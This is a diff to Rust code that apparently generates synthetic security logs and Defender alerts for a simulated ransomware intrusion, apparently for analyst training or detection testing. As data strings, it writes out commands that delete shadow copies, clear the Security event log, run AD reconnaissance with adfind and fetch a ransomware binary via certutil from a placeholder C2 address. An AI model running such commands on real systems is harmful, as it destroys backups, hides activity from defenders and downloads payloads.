@@ -10,6 +10,7 @@ use serde_json::json;
 
 use super::super::org::{Device, Org, User};
 use super::super::rows::{self, FileEvent, Logon, Proc};
+use super::super::sentinel::{self, Alert, Product};
 use super::super::{Gen, MINUTE, Rng, SECOND, dy, file_hashes, long, s};
 use super::{C2_DOMAIN, C2_IP, DROP_DIR, DROPPED_BINARY, SERVER, ago};
 
@@ -20,6 +21,13 @@ const BACKDOOR: i64 = ago(25, 10);
 const FOOTHOLD: i64 = ago(24, 50);
 /// The attacker returns after the analyst has isolated wks-014 and srv-fs01 (24h10m ago).
 pub(super) const RETURN: i64 = ago(21, 0);
+
+/// Where the C2 domain points once 203.0.113.0/24 is blocked at the firewall (24h ago).
+const FALLBACK_C2_IP: &str = "198.51.100.23";
+const BLOCKED: i64 = ago(24, 0);
+/// The batch's commands that Defender raises alerts on.
+const DELETE_SHADOWS: &str = "vssadmin.exe delete shadows /all /quiet";
+const CLEAR_SECURITY_LOG: &str = "wevtutil.exe cl Security";
 
 /// The local account the attacker adds to Administrators on srv-fs01.
 const BACKDOOR_ACCOUNT: &str = "svc_print";
@@ -79,7 +87,7 @@ const WIPE_LIST: [(&str, &str, &str); 10] = [
     (
         "vssadmin.exe",
         "c:\\windows\\system32\\vssadmin.exe",
-        "vssadmin.exe delete shadows /all /quiet",
+        DELETE_SHADOWS,
     ),
     (
         "WMIC.exe",
@@ -124,7 +132,7 @@ const WIPE_LIST: [(&str, &str, &str); 10] = [
     (
         "wevtutil.exe",
         "c:\\windows\\system32\\wevtutil.exe",
-        "wevtutil.exe cl Security",
+        CLEAR_SECURITY_LOG,
     ),
 ];
 
@@ -141,6 +149,16 @@ const ADFIND_SWEEP: [&str; 6] = [
     "cmd.exe /c adfind.exe -f \"(objectcategory=group)\" > ad_group.txt",
     "cmd.exe /c adfind.exe -gcb -sc trustdmp > trustdmp.txt",
 ];
+
+/// The process id of the batch's `step`-th command (the kills, the stops, then [`WIPE_LIST`]).
+const fn batch_pid(step: usize) -> i64 {
+    4_500 + step as i64 * 12
+}
+
+/// The batch step of a command of [`WIPE_LIST`].
+const fn wipe_step(index: usize) -> usize {
+    1 + KILL_LIST.len() + STOP_LIST.len() + index
+}
 
 /// A Windows tool run by `parent` as `parent`'s account.
 fn tool<'a>(parent: &Proc<'a>, file: &'a str, folder: &'a str, cmd: &'a str, pid: i64) -> Proc<'a> {
@@ -364,13 +382,18 @@ pub(super) fn write(g: &mut Gen, org: &Org, rng: &mut Rng, at: impl Fn(i64) -> i
     let sql_implant = foothold(g, rng, (fs, sql), (&implant, admin), at(FOOTHOLD));
     let mut beacon = at(FOOTHOLD) + 2 * MINUTE;
     while beacon < at(RETURN) + 30 * MINUTE {
+        let c2 = if beacon < at(BLOCKED) {
+            C2_IP
+        } else {
+            FALLBACK_C2_IP
+        };
         rows::connection(
             g,
             sql,
             beacon,
             &sql_implant,
             "ConnectionSuccess",
-            (C2_IP, 443, C2_DOMAIN),
+            (c2, 443, C2_DOMAIN),
             rng.range(50_000, 60_000) as i32,
         );
         beacon += 30 * MINUTE + rng.range(0, 120) * SECOND;
@@ -587,9 +610,9 @@ fn ransomware_batch(g: &mut Gen, d: &Device, implant: &Proc<'_>, time: i64) {
         .chain(WIPE_LIST.iter().map(|&(f, p, c)| ((f, p), c)));
     let mut t = time + 2 * SECOND;
     for (k, ((file, folder), command_line)) in steps.enumerate() {
-        let child = tool(&cmd, file, folder, command_line, 4_500 + k as i64 * 12);
+        let child = tool(&cmd, file, folder, command_line, batch_pid(k));
         rows::process_created(g, d, t, &cmd, &child);
-        if command_line.ends_with("cl Security") {
+        if command_line == CLEAR_SECURITY_LOG {
             rows::security_event(
                 g,
                 d,
@@ -613,7 +636,7 @@ fn ransomware_batch(g: &mut Gen, d: &Device, implant: &Proc<'_>, time: i64) {
 
     // The ransomware itself: fetched with certutil, then quarantined by Defender before it runs.
     let folder = "C:\\Windows\\Temp";
-    let url = format!("http://{C2_IP}/{RANSOM_BINARY}");
+    let url = format!("http://{FALLBACK_C2_IP}/{RANSOM_BINARY}");
     let fetch_cmd = format!("certutil.exe -urlcache -split -f {url} {folder}\\{RANSOM_BINARY}");
     let certutil = tool(
         implant,
@@ -629,7 +652,7 @@ fn ransomware_batch(g: &mut Gen, d: &Device, implant: &Proc<'_>, time: i64) {
         t + 27 * SECOND,
         &certutil,
         "ConnectionSuccess",
-        (C2_IP, 80, &url),
+        (FALLBACK_C2_IP, 80, &url),
         55_121,
     );
     rows::file_event(
@@ -678,4 +701,60 @@ fn ransomware_batch(g: &mut Gen, d: &Device, implant: &Proc<'_>, time: i64) {
             ),
         ],
     );
+}
+
+/// Defender's alerts on srv-sql01: the cleared log, the deleted backups and the ransomware it
+/// stopped.
+pub(super) fn alerts(org: &Org, at: impl Fn(i64) -> i64) -> [Alert<'static>; 3] {
+    let sql = org.device(RANSOM_HOST);
+    let batch = at(RETURN);
+    let (_, sha256, _) = file_hashes(RANSOM_BINARY);
+    [
+        Alert {
+            name: "File backups were deleted",
+            severity: "High",
+            product: Product::Endpoint,
+            description: "Shadow copies and the backup catalog were deleted, as ransomware does before it encrypts.",
+            tactics: "Impact",
+            techniques: &["T1490"],
+            compromised: "srv-sql01.contoso.com",
+            entities: vec![
+                sentinel::host(sql),
+                sentinel::process(DELETE_SHADOWS, batch_pid(wipe_step(0))),
+            ],
+            start: batch,
+            end: batch + 30 * SECOND,
+        },
+        Alert {
+            name: "Event log was cleared",
+            severity: "Medium",
+            product: Product::Endpoint,
+            description: "The Application, System and Security event logs were cleared.",
+            tactics: "DefenseEvasion",
+            techniques: &["T1070.001"],
+            compromised: "srv-sql01.contoso.com",
+            entities: vec![
+                sentinel::host(sql),
+                sentinel::process(CLEAR_SECURITY_LOG, batch_pid(wipe_step(9))),
+            ],
+            start: batch + 30 * SECOND,
+            end: batch + 40 * SECOND,
+        },
+        Alert {
+            name: "'Filecoder' ransomware was prevented",
+            severity: "High",
+            product: Product::Endpoint,
+            description: "Microsoft Defender Antivirus quarantined Ransom:Win64/Filecoder.RB!MTB before it ran.",
+            tactics: "Impact",
+            techniques: &["T1486"],
+            compromised: "srv-sql01.contoso.com",
+            entities: vec![
+                sentinel::host(sql),
+                sentinel::file(RANSOM_BINARY, "C:\\Windows\\Temp", &sha256),
+                sentinel::ip(FALLBACK_C2_IP),
+            ],
+            start: batch + MINUTE,
+            end: batch + MINUTE,
+        },
+    ]
 }
